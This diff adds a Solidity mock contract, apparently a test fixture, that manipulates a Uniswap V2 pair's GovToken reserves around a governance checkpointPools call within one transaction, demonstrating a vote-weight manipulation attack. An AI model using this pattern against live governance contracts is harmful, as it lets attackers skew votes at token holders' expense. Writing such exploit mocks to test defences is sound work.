@@ -0,0 +1,45 @@
+// SPDX-License-Identifier: MIT
+
+pragma solidity 0.6.12;
+
+import "@openzeppelin/contracts/math/SafeMath.sol";
+import "@openzeppelin/contracts/token/ERC20/IERC20.sol";
+import "@venomswap/core/contracts/interfaces/IUniswapV2Pair.sol";
+import "../GovernanceVote.sol";
+
+// Pumps the GovToken reserve of a pair for the duration of a checkpointPools call, all within one transaction
+contract GovernanceVoteExploitMock {
+    using SafeMath for uint256;
+
+    GovernanceVote public immutable governanceVote;
+
+    constructor(address _governanceVote) public {
+        governanceVote = GovernanceVote(_governanceVote);
+    }
+
+    // Sells amountIn of the GovToken this contract holds into pair, checkpoints & buys the GovToken back
+    function checkpointPumped(
+        IUniswapV2Pair pair,
+        address govToken,
+        uint256 amountIn
+    ) external {
+        address otherToken = pair.token0() == govToken ? pair.token1() : pair.token0();
+        uint256 amountOut = _swap(pair, govToken, amountIn);
+        governanceVote.checkpointPools();
+        _swap(pair, otherToken, amountOut);
+    }
+
+    function _swap(
+        IUniswapV2Pair pair,
+        address tokenIn,
+        uint256 amountIn
+    ) internal returns (uint256 amountOut) {
+        (uint256 reserve0, uint256 reserve1, ) = pair.getReserves();
+        bool zeroForOne = pair.token0() == tokenIn;
+        (uint256 reserveIn, uint256 reserveOut) = zeroForOne ? (reserve0, reserve1) : (reserve1, reserve0);
+        uint256 amountInWithFee = amountIn.mul(997);
+        amountOut = amountInWithFee.mul(reserveOut).div(reserveIn.mul(1000).add(amountInWithFee));
+        IERC20(tokenIn).transfer(address(pair), amountIn);
+        pair.swap(zeroForOne ? 0 : amountOut, zeroForOne ? amountOut : 0, address(this), new bytes(0));
+    }
+}